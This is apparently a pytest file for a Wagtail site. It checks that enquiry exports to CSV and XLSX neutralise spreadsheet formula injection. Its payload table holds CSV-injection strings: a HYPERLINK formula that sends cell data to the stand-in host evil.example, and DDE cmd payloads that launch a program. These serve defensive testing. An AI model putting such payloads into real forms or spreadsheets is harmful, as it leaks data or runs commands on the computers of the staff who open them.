"""The enquiry exports never hand a spreadsheet a formula to run.

A visitor can type anything into the form; enquiry handlers open the export
in Excel or LibreOffice. CSV cells that begin with = + - @ (or a tab or
carriage return) get a leading single quote, as OWASP recommends; XLSX cells
stay string cells, never formulas.
"""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail.contrib.forms.utils import get_form_types

from contact.exports import SafeSubmissionsListView
from contact.factories import ContactFormFieldFactory
from enquiries.models import Enquiry

DANGEROUS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
HEADING = "=1+1 Notes"


@pytest.fixture
def hostile_submission(contact_page):
    """Every field starts with a formula character, including a staff field
    whose label does and a multiple choice (exported as one joined cell)."""
    ContactFormFieldFactory(
        page=contact_page, label=HEADING, field_type="singleline", required=False
    )
    ContactFormFieldFactory(
        page=contact_page,
        label="Days",
        field_type="checkboxes",
        required=False,
        choices="=Monday\nTuesday",
    )
    contact_page.refresh_from_db()
    names = [name for name, _label in contact_page.get_data_fields()]
    payloads = iter(list(DANGEROUS.values()) * 2)
    data = {name: next(payloads) for name in names if name != "submit_time"}
    data["days"] = ["=Monday", "Tuesday"]
    data["health_consent"] = True
    return Enquiry.objects.create(
        page=contact_page, form_data=data, field_labels=labels(contact_page)
    )


def export(client, page, export_format):
    """The inbox's export of this form's enquiries."""
    response = client.get(
        "/admin/enquiries/", {"form": page.pk, "export": export_format}
    )
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return b"".join(response)


def labels(page):
    """What the export's headings say for each stored field."""
    return {
        name: label
        for name, label in page.get_data_fields()
        if name not in ("submit_time", "health_consent")
    }


def test_csv_cells_that_start_a_formula_are_neutralised(
    handler_client, contact_page, hostile_submission
):
    content = export(handler_client, contact_page, "csv").decode()
    headings, row = list(csv.reader(io.StringIO(content, newline="")))

    assert f"'{HEADING}" in headings
    cells = dict(zip(headings, row, strict=True))
    data = hostile_submission.get_data()
    for name, label in labels(contact_page).items():
        heading = f"'{label}" if label == HEADING else label
        if name == "days":
            assert cells[heading] == "'=Monday, Tuesday"
        else:
            assert cells[heading] == f"'{data[name]}", name
    for heading in ("Received", "Consent given", "Enquiry"):
        assert not cells[heading].startswith("'")
    # Every dangerous start was exported (and so neutralised) at least once.
    for payload in DANGEROUS.values():
        assert f"'{payload}" in row


def test_ordinary_csv_cells_are_left_as_typed(handler_client, visitor, contact_page):
    visitor.open()
    assert visitor.send().status_code == 302
    content = export(handler_client, contact_page, "csv").decode()
    headings, row = list(csv.reader(io.StringIO(content, newline="")))
    assert "Ada Patient" in row
    assert "I have had back pain for years." in row
    assert not any(cell.startswith("'") for cell in headings + row)


def test_xlsx_cells_are_strings_never_formulas(
    handler_client, contact_page, hostile_submission
):
    content = export(handler_client, contact_page, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    headings, row = list(sheet.iter_rows())

    values = {cell.value: cell for cell in row}
    # XML reads a carriage return back as a line feed.
    payloads = [payload.replace("\r", "\n") for payload in DANGEROUS.values()]
    for payload in [*payloads, "=Monday, Tuesday"]:
        assert values[payload].data_type == "s", payload  # as typed, no quote
    heading = next(cell for cell in headings if HEADING in cell.value)
    assert heading.data_type == "s"
    assert all(cell.data_type != "f" for cell in [*headings, *row])


def test_every_form_page_type_exports_through_the_safe_view(db):
    """Wagtail's own per-form export is closed (contact/wagtail_hooks.py);
    were it reopened, it would still be safe."""
    form_types = [content_type.model_class() for content_type in get_form_types()]
    assert form_types
    for model in form_types:
        view_class = model().get_submissions_list_view_class()
        assert issubclass(view_class, SafeSubmissionsListView), model
